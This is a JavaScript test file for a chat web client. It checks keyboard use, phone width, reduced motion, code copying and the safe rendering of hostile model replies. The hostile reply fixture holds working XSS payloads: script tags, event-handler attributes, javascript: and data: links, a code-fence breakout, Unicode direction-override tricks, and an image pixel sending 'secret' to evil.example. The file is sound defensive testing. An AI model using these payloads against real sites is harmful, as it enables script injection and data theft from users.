// Flows for everybody: keyboard alone, phone width, little motion; and against hostile replies.
import assert from 'node:assert/strict';

const hostile = `# Hello <script>globalThis.pwned = 1</script>

<img src="http://evil.example/a.png" onerror="globalThis.pwned = 2">
<iframe src="http://evil.example/frame"></iframe>
<style>body { display: none }</style>
<svg onload="globalThis.pwned = 3"></svg>

![picture](http://evil.example/pixel.png?q=secret) ![data](data:image/svg+xml;base64,PHN2Zz4=)

[click](javascript:globalThis.pwned=4) [tab](java\tscript:globalThis.pwned=5)
[data](data:text/html,<script>alert(1)</script>) [relative](/api/delete) [vb](vbscript:x)
[good](https://example.org/page) <javascript:globalThis.pwned=6> [ref]

[ref]: javascript:globalThis.pwned=7

| <b onmouseover="globalThis.pwned=8">x</b> | y |
| --- | --- |
| <script>globalThis.pwned = 9</script> | &lt;img src=x onerror=alert(1)&gt; |

\`\`\`html"><script>globalThis.pwned=10</script>
<script>globalThis.pwned = 11</script>
\`\`\`
`;

// Turns the order of characters around: overrides and isolates that nothing ends.
const turned = `Go to [\u202egro.elpmaxe//:sptth](https://evil.example/) now \u2067and \u202e\u2066

\`\u202eedoc\` and code:

\`\`\`js
if (admin) { /*\u202e } \u2066begin*/
\`\`\`

last \u202e`;

// Nothing of the hostile reply has run, is fetched, or leads elsewhere than it says.
async function checkHarmless(md) {
  const found = await md.evaluate((root) => ({
    pwned: globalThis.pwned ?? null,
    bad: root.querySelectorAll('script, img, iframe, style, svg:not(.glyph), b, object').length,
    links: [...root.querySelectorAll('a')].map((a) => [a.href, a.rel, a.target]),
    events: [...root.querySelectorAll('*')].flatMap((e) =>
      e.getAttributeNames().filter((n) => n.startsWith('on')),
    ),
  }));
  assert.deepEqual(found, {
    pwned: null,
    bad: 0,
    links: [['https://example.org/page', 'noopener noreferrer nofollow ugc', '_blank']],
    events: [],
  });
}

export const flows = {
  async 'a hostile reply does nothing'(visit) {
    const { page } = visit;
    await visit.canned(hostile);
    await visit.ask('Hello');
    await page.locator('.md table').waitFor();
    await checkHarmless(page.locator('.md'));
    await visit.axe('hostile');
    for (const nasty of [
      '>'.repeat(5000),
      '- '.repeat(3000),
      '[('.repeat(4000),
      '*_`'.repeat(3000),
      '|a'.repeat(3000),
      `${'['.repeat(2000)}${']('.repeat(2000)}`,
    ]) {
      await visit.uncanned();
      await visit.canned(nasty);
      await visit.ask('Again');
    }
    await visit.eventually(async () => assert.ok(await visit.box().isEnabled()));
  },

  async 'a hostile reply does nothing while it comes in pieces'(visit) {
    const { page } = visit;
    const live = await visit.sayLive('Hello');
    await live.sayInPieces(hostile);
    await page.locator('.md table').waitFor();
    live.end();
    await visit.settled();
    await checkHarmless(page.locator('.md'));
    const nested = await visit.sayLive('Again');
    await nested.sayInPieces('> - *_[('.repeat(60));
    nested.end();
    await visit.settled();
    await visit.eventually(async () => assert.ok(await visit.box().isEnabled()));
  },

  async 'a reply that turns the writing direction turns nothing but itself'(visit) {
    const { page } = visit;
    const live = await visit.sayLive('Hello');
    await live.sayInPieces(turned);
    live.end();
    await visit.settled();
    const link = page.locator('.md a');
    assert.equal(await link.getAttribute('title'), 'https://evil.example/');
    // What follows the link stands to its right, as it was written.
    const rest = await link.evaluate((a) => {
      const range = document.createRange();
      range.selectNodeContents(a.nextSibling);
      range.setEnd(a.nextSibling, ' now'.length);
      return range.getBoundingClientRect().left - a.getBoundingClientRect().right;
    });
    assert.ok(rest > -1, `it begins ${rest} px after the link`);
    assert.match(await page.locator('.from-model .facts').innerText(), /^\d+ tokens? · /);
    await visit.axe('turned');
  },

  async 'code can be copied'(visit) {
    const { page, context } = visit;
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await visit.canned('```js\nlet a = "<b>";\n```\n\nand `inline`');
    await visit.ask('Code');
    await page.getByRole('button', { name: 'Copy the code' }).click();
    await page.getByRole('button', { name: 'Copied' }).waitFor();
    assert.equal(await page.evaluate(() => navigator.clipboard.readText()), 'let a = "<b>";');
    await page.keyboard.press('Alt+KeyC');
    await page.waitForFunction(async () =>
      (await navigator.clipboard.readText()).includes('inline'),
    );
  },

  async 'everything by keyboard'(visit) {
    const { page } = visit;
    const focuses = (expected) =>
      visit.eventually(async () => {
        const focused = () => document.activeElement?.id || document.activeElement?.textContent;
        assert.equal(await page.evaluate(focused), expected);
      });
    await page.keyboard.press('Tab');
    await focuses('Skip to the message box');
    await page.keyboard.press('Enter');
    await page.keyboard.press('Alt+KeyI');
    await focuses('message');
    await page.keyboard.type('First line');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('second');
    await visit.asks(() => page.keyboard.press('Enter'));
    await visit.settled();
    assert.equal(visit.bodies[0].messages.at(-1).content, 'First line\nsecond');
    await page.keyboard.press('Alt+Comma');
    await page.getByRole('complementary', { name: 'Settings' }).waitFor();
    await page.waitForFunction(() => document.activeElement.closest('.settings'));
    await page.keyboard.press('Escape');
    await focuses('open-settings');
    await page.keyboard.press('Alt+KeyM');
    await page.waitForFunction(() => document.activeElement.closest('.popup'));
    await page.keyboard.press('Escape');
    await page.keyboard.press('Alt+Slash');
    await page.getByRole('dialog', { name: 'Keyboard shortcuts' }).waitFor();
    await visit.axe('shortcuts');
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await visit.asks(() => page.keyboard.press('Alt+KeyR'));
    await page.getByText('2/2').waitFor();
    await visit.settled();
    await page.keyboard.press('Alt+KeyU');
    await page.getByRole('dialog', { name: 'Edit the message' }).waitFor();
    await page.keyboard.press('Escape');
    await page.keyboard.press('Alt+KeyN');
    await visit.counts('.from-user', 0);
    await page.keyboard.press('Alt+ArrowDown');
    await page.locator('.from-user').waitFor();
    // Every control can be reached, and shows that it is.
    const reached = new Set();
    for (let i = 0; i < 40; i++) {
      await page.keyboard.press('Tab');
      reached.add(
        await page.evaluate(() => {
          const e = document.activeElement;
          const shown = e === document.body || e.id === 'message'; // the latter by its frame
          const outline = shown || getComputedStyle(e).outlineStyle !== 'none';
          return `${e.getAttribute('aria-label') ?? e.id ?? ''}${outline ? '' : ' INVISIBLE'}`;
        }),
      );
    }
    assert.deepEqual(
      [...reached].filter((r) => r.endsWith('INVISIBLE')),
      [],
    );
    for (const name of ['Message', 'Settings', 'Another reply']) assert.ok(reached.has(name), name);
  },

  async 'phone width'(visit, { begin }) {
    const phone = await begin({
      viewport: { width: 360, height: 740 },
      hasTouch: true,
      isMobile: true,
    });
    const { page } = phone;
    await phone.fits();
    await phone.axe('phone, empty');
    await phone.ask('Explain how a rainbow comes about');
    await phone.fits();
    await phone.axe('phone, chat');
    await page.getByRole('button', { name: 'Show or hide the conversations' }).tap();
    await page.getByRole('navigation', { name: 'Conversations' }).waitFor();
    await phone.axe('phone, conversations');
    await page.waitForFunction(() => document.querySelector('.middle').inert);
    await page.locator('.shade').tap({ position: { x: 340, y: 400 } });
    await page.locator('.shade').waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'Settings' }).tap();
    await phone.fits();
    await phone.axe('phone, settings');
    await page.getByRole('button', { name: 'Close' }).tap();
    await page.waitForFunction(() => document.activeElement.id === 'open-settings');
    await page.locator('.shape label', { hasText: 'JSON by schema' }).tap();
    await phone.fits();
    await phone.axe('phone, schema');
    await page.getByRole('button', { name: /Choose a model/ }).tap();
    await phone.fits();
    await phone.axe('phone, models');
    // Targets of at least 24 px (WCAG 2.5.8).
    const small = await page.evaluate(() =>
      [...document.querySelectorAll('button, select, .segments label')]
        .map((e) => [e.getBoundingClientRect(), e.outerHTML.slice(0, 80)])
        .filter(([r]) => r.width > 0 && (r.width < 24 || r.height < 24))
        .map(([, html]) => html),
    );
    assert.deepEqual(small, []);
    await phone.end();
  },

  async 'little motion where that is asked for'(visit, { begin }) {
    const calm = await begin({ reducedMotion: 'reduce' });
    await calm.say('Write a very long story');
    await calm.page.locator('.dot').waitFor();
    const running = await calm.page.evaluate(() => document.getAnimations().length);
    assert.equal(running, 0);
    await calm.page.keyboard.press('Escape');
    await calm.settled();
    await calm.end();
  },
};
